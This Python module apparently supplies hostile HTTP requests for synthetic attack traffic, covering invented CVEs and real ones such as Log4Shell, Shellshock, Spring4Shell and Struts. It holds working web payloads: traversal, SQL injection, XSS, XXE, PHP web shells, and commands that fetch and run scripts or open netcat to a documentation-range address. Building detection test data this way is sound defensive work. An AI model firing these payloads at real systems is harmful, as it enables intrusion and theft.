"""The attacks of the sample traffic: the examples' vulnerabilities, but not the examples' own requests.

Each is what somebody else would send: another encoding, another depth, a prefix before the path, the parameters in
another order. All hosts are `.example` names or documentation addresses; all products but the known ones are invented.
"""

from typing import NamedTuple

FORM = ("Content-Type", "application/x-www-form-urlencoded")
JSON = ("Content-Type", "application/json")


class Attack(NamedTuple):
    """One hostile request; headers of an ordinary client are added by the generator."""

    cve: str
    method: str
    target: str
    headers: tuple[tuple[str, str], ...] = ()
    body: str = ""


def get(cve: str, target: str, *headers: tuple[str, str]) -> Attack:
    return Attack(cve, "GET", target, headers)


def post(cve: str, target: str, header: tuple[str, str], body: str) -> Attack:
    return Attack(cve, "POST", target, (header,), body)


def parcel(name: str, value: str, *, boundary: str) -> str:
    """A multipart body with an executable file under the name that the drop box reads."""
    return (
        f'--{boundary}\r\nContent-Disposition: form-data; name="parcel"; filename="{name}"\r\n'
        f"Content-Type: application/octet-stream\r\n\r\n{value}\r\n"
        f'--{boundary}\r\nContent-Disposition: form-data; name="box"\r\n\r\nteam\r\n--{boundary}--\r\n'
    )


INTAKE_FILE = (
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY q SYSTEM "file:///c:/windows/win.ini">]>'
    '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><deliver><ref>&q;</ref></deliver>'
    "</s:Body></s:Envelope>"
)
INTAKE_REMOTE = (
    '<!DOCTYPE r [<!ENTITY % far SYSTEM "http://203.0.113.66/e.dtd"> %far;]>'
    '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><deliver/></s:Body></s:Envelope>'
)
OBJECT = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAB"
RUNTIME = "@java.lang.Runtime@getRuntime().exec('whoami')"

INVENTED: tuple[Attack, ...] = (
    get("CVE-2099-10001", "/blog/lk-media/thumbs/..%2f..%2f..%2fconfig%2fsite.ini"),
    get("CVE-2099-10001", "/lk-media/thumbs/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    get("CVE-2099-10002", "/cgi/nas_fetch.cgi?item=..%2F..%2F..%2F..%2Fmnt%2Fconf%2Fusers.db&volume=backup"),
    get(
        "CVE-2099-10002",
        "/nas/cgi/nas_fetch.cgi?volume=main&item=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow",
    ),
    get("CVE-2099-10003", "/plugins/lk-catalogue/filter.php?cat_id=7%27%20AND%20SLEEP(5)--%20-&order=price"),
    get(
        "CVE-2099-10003",
        "/shop/plugins/lk-catalogue/filter.php?cat_id=-1%20UNION/**/ALL/**/SELECT%20login,secret,3%20FROM%20lk_accounts",
    ),
    post(
        "CVE-2099-10004",
        "/desk/guest/ticket_lookup",
        FORM,
        "ticket_no=9%27%20UNION%20SELECT%20mail%2Csecret%20FROM%20agents--%20&email=x%40mail.example",
    ),
    post(
        "CVE-2099-10004",
        "/support/desk/guest/ticket_lookup",
        FORM,
        "email=x%40mail.example&go=1&ticket_no=9%27+AND+1%3D(SELECT+1+FROM+PG_SLEEP(5))--",
    ),
    post("CVE-2099-10005", "/rpc/v2/diagnose", JSON, '{"target":"8.8.8.8|uname -a","tool":"traceroute"}'),
    post(
        "CVE-2099-10005",
        "/rpc/v2/diagnose",
        JSON,
        '{"tool": "ping", "target": "$(wget http://203.0.113.66/m.sh -O- | sh)", "count": 4}',
    ),
    post("CVE-2099-10005", "/rpc/v2/diagnose", JSON, '{"tool":"ping","target":"1.1.1.1\\u003b cat /etc/hosts"}'),
    get(
        "CVE-2099-10006", "/whistle/board_search.php?term=%27%22%3E%3Cimg%20src%3Dx%20onerror%3Dprompt(1)%3E&scope=all"
    ),
    get(
        "CVE-2099-10006",
        "/community/whistle/board_search.php?scope=title&term=%22%3E%3CSvG%2FoNloAd%3Dconfirm%60k%60%3E",
    ),
    post("CVE-2099-10007", "/drafts/render_preview", FORM, "greeting=%3C%25%3D+%60id%60+%25%3E&layout=wide"),
    post(
        "CVE-2099-10007",
        "/mail/drafts/render_preview",
        FORM,
        "layout=plain&greeting=%3C%25%3D+File.read%28%27%2Fetc%2Fhosts%27%29+%25%3E",
    ),
    post("CVE-2099-10008", "/ferry/services/IntakePort", ("Content-Type", "text/xml"), INTAKE_FILE),
    post("CVE-2099-10008", "/ferry/services/IntakePort", ("Content-Type", "application/soap+xml"), INTAKE_REMOTE),
    post("CVE-2099-10009", "/granite/TransferServlet", FORM, f"state={OBJECT}&action=resume"),
    post("CVE-2099-10009", "/archive/granite/TransferServlet", FORM, f"action=begin&state={OBJECT}eHB0AAR0ZXN0"),
    get("CVE-2099-10010", "/lantern/widgets/feed_proxy?feed_url=http%3A%2F%2F127.0.0.1%3A8500%2Fv1%2Fagent%2Fself"),
    get("CVE-2099-10010", "/lantern/widgets/feed_proxy?max=1&feed_url=file:///etc/hostname"),
    get("CVE-2099-10011", "/lk-leave.php?destination=%2F%2Fparcel-refund.example%2Flogin&quiet=1"),
    Attack(
        "CVE-2099-10012",
        "POST",
        "/stow/dropbox/receive.php",
        (("Content-Type", "multipart/form-data; boundary=x7f3c2"),),
        parcel("logo.phtml", "<?php system($_GET['c']);", boundary="x7f3c2"),
    ),
    Attack(
        "CVE-2099-10012",
        "POST",
        "/files/stow/dropbox/receive.php",
        (("Content-Type", 'multipart/form-data; boundary="AaB03x"'),),
        parcel("up.PHP", "GIF89a<?=`$_POST[k]`?>", boundary="AaB03x"),
    ),
    get("CVE-2099-10013", "/gw-admin/api/accounts", ("X-Bellwether-Peer", "gw-02")),
    get("CVE-2099-10013", "/gw-admin/api/accounts/export?format=csv", ("x-bellwether-peer", "node-local")),
    get("CVE-2099-10014", "/quay/public/..;/deploy/upload.jsf"),
    get("CVE-2099-10014", "/ops/quay/public/..;jsessionid=1/deploy/status.jsf"),
    post(
        "CVE-2099-10015",
        "/plugins/lk-members/signup.php",
        FORM,
        "lk_role=superadmin&agree=on&mail=new%40mail.example&secret=Tulip-Harbour-9&display=new",
    ),
    get("CVE-2099-10016", "/cgi/snap_create.cgi?label=weekly%7Cnc+203.0.113.66+4444&vol=md0"),
    get(
        "CVE-2099-10017",
        "/lantern/report/export.pdf?style=..%2f..%2f..%2f..%2fhome%2flantern%2f.ssh%2fid_rsa&period=week",
    ),
    post("CVE-2099-10018", "/whistle/avatar/resize", FORM, "geometry=128x128%7Cwget%20203.0.113.66%2Fk&user=42"),
    Attack(
        "CVE-2099-10019",
        "PUT",
        "/ferry/admin/routes/restore",
        (JSON,),
        '{"when":"${new java.lang.ProcessBuilder({\'sh\',\'-c\',\'uname\'}).start()}","route":"night"}',
    ),
    post(
        "CVE-2099-10020",
        "/settings/filters/try_out",
        FORM,
        "program=spamcheck&form_token=4be1a0&arguments=-q%3B+curl+http%3A%2F%2F203.0.113.66%2Fx+%7C+sh",
    ),
)

KNOWN: tuple[Attack, ...] = (
    get("CVE-2021-44228", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2FExploit%7D"),
    get("CVE-2021-44228", "/", ("User-Agent", "${${lower:j}${::-n}di:rmi://203.0.113.66/o}")),
    get("CVE-2014-6271", "/cgi-bin/stats.pl", ("Cookie", "() { x;}; /bin/bash -c 'cat /etc/hosts'")),
    get("CVE-2021-41773", "/assets/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    post(
        "CVE-2021-41773",
        "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/bash",
        FORM,
        "echo Content-Type: text/plain; echo; uname -a",
    ),
    post(
        "CVE-2022-22965",
        "/account/save",
        FORM,
        "name=x&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps%2FROOT",
    ),
    get(
        "CVE-2022-26134",
        "/wiki/%24%7BClass.forName%28%22java.lang.Runtime%22%29.getRuntime%28%29.exec%28%22whoami%22%29%7D/",
    ),
    Attack(
        "CVE-2022-1388",
        "POST",
        "/mgmt/tm/util/bash",
        (
            ("Connection", "X-F5-Auth-Token, close"),
            ("X-F5-Auth-Token", "x"),
            ("Authorization", "Basic YWRtaW46aG9yaXpvbg=="),
            JSON,
        ),
        '{"utilCmdArgs":"-c \'cat /config/bigip.license\'","command":"run"}',
    ),
    get(
        "CVE-2019-19781", "/vpn/%2e%2e/vpns/portal/scripts/newbm.pl", ("NSC_USER", "../../netscaler/portal/templates/k")
    ),
    post(
        "CVE-2024-4577",
        "/shop/?%add+auto_prepend_file%3dphp%3a%2f%2finput+%add+allow_url_include%3don",
        FORM,
        "<?php phpinfo(); ?>",
    ),
    post(
        "CVE-2017-5638", "/showcase/upload.action", ("Content-Type", f"%{{(#x='multipart/form-data').({RUNTIME})}}"), ""
    ),
)

ATTACKS = INVENTED + KNOWN
